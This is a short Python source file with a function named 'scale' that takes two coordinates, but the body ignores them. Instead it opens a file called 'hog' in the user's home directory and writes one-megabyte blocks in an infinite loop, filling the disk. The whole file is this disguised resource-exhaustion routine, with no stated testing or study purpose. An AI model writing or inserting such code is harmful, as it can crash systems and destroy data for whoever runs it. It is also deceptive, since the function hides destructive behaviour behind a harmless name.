from pathlib import Path


def scale(x, y):
    with (Path.home() / "hog").open("wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
